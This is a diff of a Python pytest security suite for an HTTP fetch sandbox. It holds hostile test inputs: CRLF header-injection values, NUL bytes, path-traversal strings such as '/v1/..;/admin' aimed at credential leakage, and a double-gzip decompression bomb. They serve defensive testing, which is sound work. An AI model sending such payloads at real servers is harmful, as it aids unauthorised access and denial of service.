+        "Via": "1.1 evil",
+        "Date": "x",
+        "DNT": "1",
+        "Accept-Charset": "utf-7",
+        "Accept-Encoding": "br",
+        "Set-Cookie": "a=b",
+        "Access-Control-Request-Method": "PUT",
+        "X-HTTP-Method-Override": "TRACE",
+    }
+    headers = [[k, v] for k, v in forbidden.items()] + [
+        ["Cookie", "own=1"],
+        ["X-Ok", "fine"],
+        ["x-method-override", "PATCH"],
+    ]
+    res = fetch(
+        bench,
+        lang,
+        f"https://localhost:{port}/v1/x",
+        method="POST",
+        body="hello world",
+        headers=headers,
+        connection="acme",
+    )
     res.raise_for_error()
     assert res.value["denied"] is None and len(seen) == 1
     got = seen[0]
@@ -608,28 +745,49 @@ def test_SEC4_forbidden_request_headers_are_dropped(gem: GemBuilder, opened: Cal
     assert got.headers.get("Connection", "close").lower() in ("close", "keep-alive")
 
 
-def test_N10_header_names_and_values_are_checked_never_E_INTERNAL(gem: GemBuilder, opened: Callable,
-                                                                  lang: str, httpserver: HTTPServer) -> None:
+def test_N10_header_names_and_values_are_checked_never_E_INTERNAL(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     seen: list[Request] = []
     httpserver.expect_request("/h").respond_with_handler(_echo(seen))
     bench = opened(http_gem(gem, {}), http="real")
     url = httpserver.url_for("/h")
-    bad = [[["X-A", "a\r\nX-Injected: 1"]], [["X-A", "a\nb"]], [["X-A", "nul\x00"]], [["X-A", "euro €"]],
-           [["bad name", "x"]], [["", "x"]], [["x:y", "x"]], [["naïve", "x"]], [["X-A\r\nX-B", "x"]]]
+    bad = [
+        [["X-A", "a\r\nX-Injected: 1"]],
+        [["X-A", "a\nb"]],
+        [["X-A", "nul\x00"]],
+        [["X-A", "euro €"]],
+        [["bad name", "x"]],
+        [["", "x"]],
+        [["x:y", "x"]],
+        [["naïve", "x"]],
+        [["X-A\r\nX-B", "x"]],
+    ]
     for headers in bad:
         res = fetch(bench, lang, url, headers=headers)
         assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", (headers, res.value)
     assert seen == []
-    res = fetch(bench, lang, url, headers=[["X-Latin", "café"], ["X-Pad", " \tpadded\t "], ["X-Long", "v" * 6000]])
+    res = fetch(
+        bench, lang, url, headers=[["X-Latin", "café"], ["X-Pad", " \tpadded\t "], ["X-Long", "v" * 6000]]
+    )
     res.raise_for_error()
     assert seen[0].headers["X-Latin"] == "café" and seen[0].headers["X-Pad"] == "padded"
 
 
-@pytest.mark.parametrize("path", ["/v1/..;/admin", "/v1/%2e%2e;/admin", "/v1/..;x=1/admin",
-                                  "/v1/.%2E;/admin", "/v1/..%3b/admin", "/v1/x/..;/..;/admin"])
-def test_SEC4_matrix_dot_segments_do_not_carry_the_credential(gem: GemBuilder, opened: Callable,
-                                                              lang: str, httpserver: HTTPServer,
-                                                              path: str) -> None:
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/..;/admin",
+        "/v1/%2e%2e;/admin",
+        "/v1/..;x=1/admin",
+        "/v1/.%2E;/admin",
+        "/v1/..%3b/admin",
+        "/v1/x/..;/..;/admin",
+    ],
+)
+def test_SEC4_matrix_dot_segments_do_not_carry_the_credential(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer, path: str
+) -> None:
     """Tomcat, Jetty and Spring resolve `/v1/..;/admin` to `/admin`."""
     import re
 
@@ -646,8 +804,9 @@ def test_SEC4_matrix_dot_segments_do_not_carry_the_credential(gem: GemBuilder, o
     assert seen[-1].headers.get("Authorization") == f"Bearer {SECRET}"
 
 
-def test_SEC4_matrix_dot_segment_redirect_and_nul_in_paths(gem: GemBuilder, opened: Callable, lang: str,
-                                                           httpserver: HTTPServer) -> None:
+def test_SEC4_matrix_dot_segment_redirect_and_nul_in_paths(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     import re
 
     seen: list[Request] = []
@@ -707,14 +866,17 @@ def double_gzip_bomb(mib: int = 2048) -> bytes:
     return _BOMB[mib]
 
 
-def test_SEC5_double_gzip_bomb_is_cut_at_the_cap_quickly(gem: GemBuilder, opened: Callable, lang: str,
-                                                         httpserver: HTTPServer) -> None:
+def test_SEC5_double_gzip_bomb_is_cut_at_the_cap_quickly(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     """httpx inflated a whole layer in one zlib call: 22 s and 6 GB before E_TOO_LARGE."""
     bomb = double_gzip_bomb()
     assert len(bomb) < 16 * 1024
     httpserver.expect_request("/bomb").respond_with_handler(
-        lambda req: Response(bomb, content_type="application/json",
-                             headers={"Content-Encoding": "gzip, gzip"}))
+        lambda req: Response(
+            bomb, content_type="application/json", headers={"Content-Encoding": "gzip, gzip"}
+        )
+    )
     bench = opened(http_gem(gem, {}), http="real", http_timeout=3.0)
     bench.call(f"fetch_{lang}", {"url": httpserver.url_for("/none")})  # start the sandbox first
     tracemalloc.start()
@@ -730,25 +892,38 @@ def test_SEC5_double_gzip_bomb_is_cut_at_the_cap_quickly(gem: GemBuilder, opened
     assert took < 2.5 and peak < 96 * MiB, (took, peak / MiB)
 
 
-def test_N10_encoded_bodies_are_decoded_within_the_cap(gem: GemBuilder, opened: Callable, lang: str,
-                                                       httpserver: HTTPServer) -> None:
+def test_N10_encoded_bodies_are_decoded_within_the_cap(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     import gzip
     import zlib
 
     text = "résumé " * 3000
-    bodies = {"gzip": gzip.compress(text.encode()), "x-gzip": gzip.compress(text.encode()),
-              "deflate": zlib.compress(text.encode()), "gzip, gzip": gzip.compress(gzip.compress(text.encode())),
-              "deflate, gzip": gzip.compress(zlib.compress(text.encode())), "identity": text.encode()}
+    bodies = {
+        "gzip": gzip.compress(text.encode()),
+        "x-gzip": gzip.compress(text.encode()),
+        "deflate": zlib.compress(text.encode()),
+        "gzip, gzip": gzip.compress(gzip.compress(text.encode())),
+        "deflate, gzip": gzip.compress(zlib.compress(text.encode())),
+        "identity": text.encode(),
+    }
     for enc, body in bodies.items():
         httpserver.expect_request("/enc", query_string={"e": enc}).respond_with_data(
-            body, headers={"Content-Encoding": enc}, content_type="text/plain; charset=utf-8")
+            body, headers={"Content-Encoding": enc}, content_type="text/plain; charset=utf-8"
+        )
     httpserver.expect_request("/enc", query_string={"e": "br"}).respond_with_data(
-        b"\x8b\x02\x80hi\x03", headers={"Content-Encoding": "br"})
+        b"\x8b\x02\x80hi\x03", headers={"Content-Encoding": "br"}
+    )
     httpserver.expect_request("/enc", query_string={"e": "bad"}).respond_with_data(
-        b"not gzip at all", headers={"Content-Encoding": "gzip"})
-    bench = opened(http_gem(gem, {}), http="real",
-                   limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode())))
+        b"not gzip at all", headers={"Content-Encoding": "gzip"}
+    )
+    bench = opened(
+        http_gem(gem, {}),
+        http="real",
+        limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode())),
+    )
     from urllib.parse import quote as q
+
     for enc in bodies:
         res = fetch(bench, lang, httpserver.url_for("/enc") + "?e=" + q(enc))
         res.raise_for_error()
@@ -757,7 +932,11 @@ def test_N10_encoded_bodies_are_decoded_within_the_cap(gem: GemBuilder, opened: 
     assert res.value["status"] == 200 and "hi" in res.value["text"]
     res = fetch(bench, lang, httpserver.url_for("/enc") + "?e=bad")
     assert res.error is not None and res.error.code == "E_HTTP", res.value
-    small = opened(gem, http="real", state_dir=gem.root.parent / "s2",
-                   limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode()) - 1))
+    small = opened(
+        gem,
+        http="real",
+        state_dir=gem.root.parent / "s2",
+        limits=dataclasses.replace(DEFAULT, http_body_bytes=len(text.encode()) - 1),
+    )
     res = fetch(small, lang, httpserver.url_for("/enc") + "?e=" + q("gzip, gzip"))
     assert res.error is not None and res.error.code == "E_TOO_LARGE"
